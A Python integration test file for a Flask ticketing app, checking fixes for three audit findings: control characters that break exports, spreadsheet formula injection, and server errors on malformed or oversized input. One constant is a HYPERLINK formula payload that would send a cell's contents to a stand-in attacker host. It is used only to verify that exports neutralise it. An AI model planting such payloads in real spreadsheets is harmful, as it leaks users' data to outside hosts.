"""Issue 17, findings 1-3: hostile input never breaks a page or an export, and is refused with a clear 422.

Each test reproduces the exact input of the finding and shows the fix.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import datetime, timedelta, timezone
from typing import Any

from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook

from slatrack.extensions import db
from slatrack.models import Ticket
from slatrack.operations.accounts import audit_log as audit_query
from slatrack.operations.tickets.lifecycle import create_ticket
from slatrack.textsafety import safe_text
from tests.integration.conftest import SERVER_URL, bearer, login

CST = timezone(timedelta(hours=8))
VTAB_TITLE = "web\x0bform"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
ROLES = ("admin", "vendor", "unit", "auditor")


def _ticket_body(**overrides: Any) -> dict[str, Any]:
    body = {
        "unit": "522701",
        "category": "fault",
        "priority": "P3",
        "channel": "电话",
        "mode": "远程",
        "title": "门户无法登录",
        "reported_at": "2025-08-05T09:00:00+08:00",
    }
    body.update(overrides)
    return body


def _stored_ticket(title: str, description: str = "") -> Ticket:
    """A ticket written below the API (as an older version or a direct import would have), Q3 2025."""
    return create_ticket(
        unit_code="522701",
        category="fault",
        priority="P3",
        channel="电话",
        mode="远程",
        title=title,
        description=description,
        reported_at=datetime(2025, 8, 5, 9, 0, tzinfo=CST),
    )


def _error(response: Any) -> dict[str, Any]:
    body = response.get_json()
    assert set(body) == {"error"}, body
    return body["error"]


def _all_cells(data: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert cells
    return cells


def _no_formulas(data: bytes) -> list[Any]:
    cells = _all_cells(data)
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == []
    return [c.value for c in cells]


# ---------------------------------------------------------------- finding 1: one character breaks the exports


def test_a_vertical_tab_title_is_refused_by_the_api_and_the_page(
    client: FlaskClient, make_token: Callable[..., str], make_user: Callable[..., Any]
) -> None:
    unit = make_token("unit")
    refused = client.post("/api/v1/tickets", json=_ticket_body(title=VTAB_TITLE), headers=bearer(unit))
    assert refused.status_code == 422
    error = _error(refused)
    assert "title" in error["fields"] and "控制字符" in error["fields"]["title"]
    assert "U+000B" in error["fields"]["title"]
    assert db.session.query(Ticket).count() == 0

    make_user("clerk", "unit")
    login(client, "clerk")
    form = {
        "unit": "522701",
        "category": "fault",
        "priority": "P3",
        "channel": "电话",
        "mode": "远程",
        "title": VTAB_TITLE,
        "description": "",
        "requester": "",
        "reported_at": "2025-08-05T09:00",
    }
    page = client.post("/tickets/new", data=form)
    assert page.status_code == 422
    text = page.get_data(as_text=True)
    assert "标题（title）：含有不允许的控制字符" in text and "U+000B" in text
    assert db.session.query(Ticket).count() == 0


def test_a_nul_in_a_title_is_422_on_every_database(client: FlaskClient, make_token: Callable[..., str]) -> None:
    admin = make_token("admin")
    refused = client.post("/api/v1/tickets", json=_ticket_body(title="web\x00form"), headers=bearer(admin))
    assert refused.status_code == 422
    assert "U+0000" in _error(refused)["fields"]["title"]
    assert db.session.query(Ticket).count() == 0


def test_exports_survive_stored_control_characters_for_every_role(
    app: Flask, client: FlaskClient, make_user: Callable[..., Any], make_token: Callable[..., str]
) -> None:
    """Rows stored before the input rule existed (vertical tab; on SQLite also a NUL) export for everyone."""
    titles = [VTAB_TITLE] if SERVER_URL else [VTAB_TITLE, "web\x00form"]
    for title in titles:
        _stored_ticket(title)
    for role in ROLES:
        make_user(f"user-{role}", role)
        login(client, f"user-{role}")
        for fmt in ("xlsx", "csv"):
            response = client.get("/tickets/export", query_string={"format": fmt})
            assert response.status_code == 200, (role, fmt)
            if fmt == "xlsx":
                values = _no_formulas(response.data)
                assert "webform" in values
            else:
                assert "webform" in response.data.decode("utf-8-sig")
        client.post("/logout")
    for role in ("admin", "vendor", "auditor"):
        token = make_token(role)
        for fmt in ("xlsx", "docx"):
            report = client.get(
                "/api/v1/reports/quarterly/2025Q3", query_string={"format": fmt}, headers=bearer(token)
            )
            assert report.status_code == 200, (role, fmt)
        values = _no_formulas(
            client.get("/api/v1/reports/quarterly/2025Q3?format=xlsx", headers=bearer(token)).data
        )
        assert "webform" in values


# ---------------------------------------------------------------- finding 2: formula injection


def test_a_formula_title_is_text_in_every_export(
    client: FlaskClient, make_user: Callable[..., Any], make_token: Callable[..., str]
) -> None:
    # Logged by the bureau, which may state a past report time (a unit's request is reported when submitted).
    bureau = make_token("admin")
    created = client.post("/api/v1/tickets", json=_ticket_body(title=FORMULA), headers=bearer(bureau))
    assert created.status_code == 201
    assert created.get_json()["title"] == FORMULA  # stored and shown as typed; only exports quote it
    make_user("boss", "admin")
    login(client, "boss")

    csv_text = client.get("/tickets/export?format=csv").data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(csv_text)))
    assert "'" + FORMULA in rows[1]
    assert FORMULA not in rows[1]

    values = _no_formulas(client.get("/tickets/export?format=xlsx").data)
    assert "'" + FORMULA in values

    admin = make_token("admin")
    quarterly = client.get("/api/v1/reports/quarterly/2025Q3?format=xlsx", headers=bearer(admin))
    assert quarterly.status_code == 200
    assert "'" + FORMULA in _no_formulas(quarterly.data)


def test_self_evaluation_targets_such_as_equals_one_set_are_text(
    client: FlaskClient, make_token: Callable[..., str]
) -> None:
    admin = make_token("admin")
    indicators = client.get("/api/v1/indicators?year=2025", headers=bearer(admin)).get_json()
    assert "=1套" in {row["target_text"] for row in indicators}
    workbook = client.get("/api/v1/reports/self-evaluation/2025?format=xlsx", headers=bearer(admin))
    assert workbook.status_code == 200
    values = _no_formulas(workbook.data)
    # Issue 13: a target from the reference data is a string cell printed as it is (=1套, never a formula and
    # never '=1套); text people enter keeps the OWASP rule (tests/integration/test_self_evaluation_form.py).
    assert "=1套" in values
    assert "'=1套" not in values


def test_the_audit_export_uses_the_same_rule() -> None:
    for value in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "plain", "-", ""):
        assert audit_query._cell(value) == safe_text(value)
    assert audit_query._cell("=1+1") == "'=1+1"


def test_numbers_stay_numbers_and_only_text_is_quoted() -> None:
    from slatrack.operations.tickets.export import write_csv, write_xlsx

    row = ["T-1", -5, 2.5, "-5", "@x", "\x0bbad", datetime(2025, 8, 5, 9, 0, tzinfo=CST).replace(tzinfo=None)]
    buffer = io.BytesIO()
    write_xlsx([row], buffer)
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]
    cells = next(iter(sheet.iter_rows(min_row=2, max_row=2)))
    assert [c.value for c in cells[:6]] == ["T-1", -5, 2.5, "'-5", "'@x", "bad"]
    assert cells[1].data_type == "n" and cells[3].data_type == "s"
    assert all(c.data_type != "f" for c in cells)
    text = io.BytesIO()
    write_csv([row], text)
    line = list(csv.reader(io.StringIO(text.getvalue().decode("utf-8-sig"))))[1]
    assert line[:6] == ["T-1", "-5", "2.5", "'-5", "'@x", "bad"]


# ---------------------------------------------------------------- finding 3: 500s on bad input


def test_lone_surrogates_are_refused(client: FlaskClient, make_token: Callable[..., str]) -> None:
    admin = make_token("admin")
    raw = json.dumps(_ticket_body(title="PLACEHOLDER")).replace("PLACEHOLDER", "\\ud800x")
    body = client.post(
        "/api/v1/tickets", data=raw, content_type="application/json", headers=bearer(admin)
    )
    assert body.status_code == 422
    assert "title" in _error(body)["fields"]
    key = client.post(
        "/api/v1/tickets", data='{"\\udfff": 1}', content_type="application/json", headers=bearer(admin)
    )
    assert key.status_code == 422
    query = client.get("/api/v1/tickets?q=%ED%A0%80", headers=bearer(admin))  # a surrogate's UTF-8 bytes
    assert query.status_code in (200, 422)
    nul = client.get("/api/v1/tickets?q=a%00b", headers=bearer(admin))
    assert nul.status_code == 422 and "q" in _error(nul)["fields"]
    assert db.session.query(Ticket).count() == 0


def test_deep_json_is_a_400(client: FlaskClient, make_token: Callable[..., str]) -> None:
    admin = make_token("admin")
    for path in ("/api/v1/tickets", "/api/v1/probe-results"):
        response = client.post(path, data="[" * 100_000, content_type="application/json", headers=bearer(admin))
        assert response.status_code == 400, path
        assert "嵌套" in _error(response)["message"]
    for constant in ("NaN", "Infinity", "1" * 5000):
        response = client.post(
            "/api/v1/probe-results", data=f"[{constant}]", content_type="application/json", headers=bearer(admin)
        )
        assert response.status_code == 400, constant


def test_ids_and_numbers_past_their_range_never_reach_the_database(
    client: FlaskClient, make_token: Callable[..., str], make_user: Callable[..., Any]
) -> None:
    admin = make_token("admin")
    assert client.get("/api/v1/tickets/9223372036854775808", headers=bearer(admin)).status_code == 404
    assert client.get("/api/v1/tickets/2147483648", headers=bearer(admin)).status_code == 404
    assert client.post(
        "/api/v1/tickets/9223372036854775808/events",
        json={"type": "note", "at": "2025-08-05T09:00:00+08:00"},
        headers=bearer(admin),
    ).status_code == 404
    page = client.get(f"/api/v1/tickets?page={10**30}", headers=bearer(admin))
    assert page.status_code == 422 and "page" in _error(page)["fields"]
    year = client.get(f"/api/v1/indicators?year={10**20}", headers=bearer(admin))
    assert year.status_code == 422 and "year" in _error(year)["fields"]
    link = client.post(
        "/api/v1/tickets/1/links", json={"outage_id": 10**20}, headers=bearer(admin)
    )
    assert link.status_code in (404, 422)
    outage = client.post(
        "/api/v1/outages",
        json={"target": "99999999999999999999", "start": "2025-08-05T08:00:00+08:00",
              "end": "2025-08-05T09:00:00+08:00", "cause": "x"},
        headers=bearer(admin),
    )  # fmt: skip
    assert outage.status_code in (404, 422)

    make_user("boss", "admin")
    login(client, "boss")
    assert client.get("/tickets/9223372036854775808").status_code == 404
    paged = client.get(f"/tickets?page={10**30}")
    assert paged.status_code == 422 and "页码" in paged.get_data(as_text=True)
    dashboard = client.get(f"/?year={10**20}")
    assert dashboard.status_code == 422 and "年度" in dashboard.get_data(as_text=True)


def test_dates_are_limited_to_a_sane_range(client: FlaskClient, make_token: Callable[..., str]) -> None:
    admin = make_token("admin")
    sla = client.get("/api/v1/sla?from=0001-01-01&to=9999-12-31", headers=bearer(admin))
    assert sla.status_code == 422
    error = _error(sla)
    assert error["fields"]["from"] == "日期应在 2000-01-01 到 2099-12-31 之间"
    assert "日期应在" in error["message"]
    as_of = client.get(
        "/api/v1/indicators", query_string={"year": "2025", "as_of": "0001-01-01T00:00:00+00:00"}, headers=bearer(admin)
    )
    assert as_of.status_code == 422
    assert _error(as_of)["fields"]["as_of"] == "时间应在 2000 年到 2099 年之间"
    far = client.get(
        "/api/v1/sla", query_string={"from": "2025-07-01", "to": "2025-09-30", "as_of": "9999-12-31T23:59:59-12:00"},
        headers=bearer(admin),
    )
    assert far.status_code == 422
    ticket = client.post(
        "/api/v1/tickets", json=_ticket_body(reported_at="0001-01-01T00:00:00+00:00"), headers=bearer(admin)
    )
    assert ticket.status_code == 422 and "reported_at" in _error(ticket)["fields"]


def test_text_fields_have_stated_lengths(client: FlaskClient, make_token: Callable[..., str]) -> None:
    admin = make_token("admin")
    huge = client.post(
        "/api/v1/tickets", json=_ticket_body(description="x" * 10_000_000), headers=bearer(admin)
    )
    assert huge.status_code == 422 and "description" in _error(huge)["fields"]
    document = client.get("/api/v1/openapi.json").get_json()["components"]["schemas"]
    create = document["TicketCreate"]["properties"]
    assert create["title"]["maxLength"] == 200 and create["description"]["maxLength"] == 4000
    assert create["title"]["pattern"].startswith("^[^\\u0000")
    assert document["EventCreate"]["properties"]["note"]["maxLength"] == 4000
    assert document["RatingCreate"]["properties"]["comment"]["maxLength"] == 4000
    assert document["ExclusionCreate"]["properties"]["reason"]["maxLength"] == 4000
    assert document["PaymentCreate"]["properties"]["voucher"]["maxLength"] == 64
    ok = client.post("/api/v1/tickets", json=_ticket_body(description="第一行\n\t第二行\r\n"), headers=bearer(admin))
    assert ok.status_code == 201


def test_page_forms_refuse_ten_megabytes(client: FlaskClient, make_user: Callable[..., Any]) -> None:
    make_user("clerk", "unit")
    login(client, "clerk")
    form = {
        "unit": "522701",
        "category": "fault",
        "priority": "P3",
        "channel": "电话",
        "mode": "远程",
        "title": "门户无法登录",
        "description": "x" * 10_000_000,
        "requester": "",
        "reported_at": "2025-08-05T09:00",
    }
    page = client.post("/tickets/new", data=form)
    assert page.status_code == 422
    assert "描述（description）：长度不能超过 4000 个字" in page.get_data(as_text=True)
    assert db.session.query(Ticket).count() == 0


def test_imported_control_characters_are_stripped_with_a_warning_naming_the_cell(
    app: Flask, client: FlaskClient, make_user: Callable[..., Any]
) -> None:
    """A CSV file is cleaned and imported, each changed cell named. (An .xlsx cannot carry these characters:
    Excel stores them as ``_x000B_`` escapes, which are read as that literal text.)"""
    from slatrack.operations.tickets.columns import COLUMNS

    row = dict.fromkeys(COLUMNS, "")
    row.update(
        {"单位": "522701", "报告时间": "2025-08-05 09:00", "类别": "fault", "优先级": "P3",
         "渠道": "电话", "方式": "远程", "标题": VTAB_TITLE, "描述": "a\x01b"}
    )  # fmt: skip
    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow(COLUMNS)
    writer.writerow([row[name] for name in COLUMNS])
    make_user("boss", "admin")
    login(client, "boss")
    page = client.post(
        "/tickets/import",
        data={"file": (io.BytesIO(text.getvalue().encode("utf-8")), "tickets.csv")},
        content_type="multipart/form-data",
    )
    html = page.get_data(as_text=True)
    assert page.status_code == 200, html
    assert "2 个单元格含有不允许的控制字符" in html
    assert "<td>2</td><td>标题</td><td>已删除不允许的控制字符 U+000B</td>" in html
    assert "<td>2</td><td>描述</td><td>已删除不允许的控制字符 U+0001</td>" in html
    ticket = db.session.query(Ticket).one()
    assert ticket.title == "webform" and ticket.description == "ab"
